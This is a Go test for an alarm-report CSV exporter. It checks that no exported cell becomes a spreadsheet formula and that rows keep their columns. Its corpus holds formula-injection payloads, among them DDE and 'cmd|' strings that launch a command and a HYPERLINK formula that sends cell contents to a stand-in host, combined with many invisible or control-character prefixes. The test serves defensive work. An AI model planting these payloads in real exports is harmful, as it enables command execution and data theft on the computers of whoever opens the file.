package alarmload

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode"
)

const signs = "=+-@＝＋－＠−﹢﹣﹦﹫"

// formulas is a corpus of texts that spreadsheets may run.
func formulas() (out []string) {
	payloads := []string{"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x/?\"&A1,\"y\")", "SUM(1,2)",
		"IMPORTXML(CONCAT(\"http://x\"),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", ""}
	fronts := []string{"", " ", "\t", "\r", "\n", "\r\n", "\x00", "\u00a0", "\u200b", "\ufeff", "\u202e", "\u3164",
		"\u2028", "\"", "\"\"", "'", ";", ",", "|", "x;", "x,", "x\t", "x\n", "x\",\"", "x\";\"", "x;\"", "x; ", "x|",
		"x，", "'\";", "\\", "x\r\n"}
	for _, f := range fronts {
		for _, s := range signs {
			for _, p := range payloads {
				out = append(out, f+string(s)+p)
			}
		}
	}
	return append(out, "monitor", "SpO2 - low", "bed 7", "50 %", "-", "a=b", "x\xff=1", strings.Repeat("=", 1000))
}

// fields are the cells that a reader could make of a line, whatever it takes for
// a separator and a quote, each without what it may drop in front.
func fields(line string) (out []string) {
	for _, part := range strings.FieldsFunc(line,
		func(r rune) bool { return strings.ContainsRune(",;|\t\r\n，；\"", r) }) {
		out = append(out, strings.TrimLeftFunc(part, func(r rune) bool {
			return unicode.In(r, unicode.C, unicode.Z) || unicode.Is(unicode.Other_Default_Ignorable_Code_Point, r)
		}))
	}
	return out
}

// No text becomes a formula in any cell, read as CSV or split by brute force, and
// each row keeps its columns. Red once: with the apostrophe only at the very
// beginning (832 formulas), and with controls left in (1,456).
func TestNoCellIsAFormula(t *testing.T) {
	corpus, effects := formulas(), 0
	for _, text := range corpus {
		r := Report{Ward: text, Since: time.Unix(0, 0), Until: time.Unix(7200, 0), Sources: []Named{{Name: text}},
			Patients: []Named{{Name: text}}}
		var b strings.Builder
		if err := r.CSV(&b); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(rows) != 4 {
			t.Fatalf("%q: %d rows, %v", text, len(rows), err)
		}
		bad := ""
		for _, row := range rows {
			if len(row) != len(header) {
				t.Fatalf("%q: %d cells", text, len(row))
			}
			for _, c := range row {
				if c != "" && strings.ContainsRune(signs+"\t\r", []rune(c)[0]) {
					bad = c
				}
			}
		}
		for _, f := range fields(b.String()) {
			if f != "" && strings.ContainsRune(signs, []rune(f)[0]) {
				bad = f
			}
		}
		if bad != "" {
			effects++
			t.Errorf("%q becomes the cell %q", text, bad)
		}
	}
	t.Logf("%d texts, %d formulas", len(corpus), effects)
	if got := Cell("SpO2 - low, monitor-7"); got != `"SpO2 - low, monitor-7"` {
		t.Errorf("a harmless text becomes %s", got)
	}
}
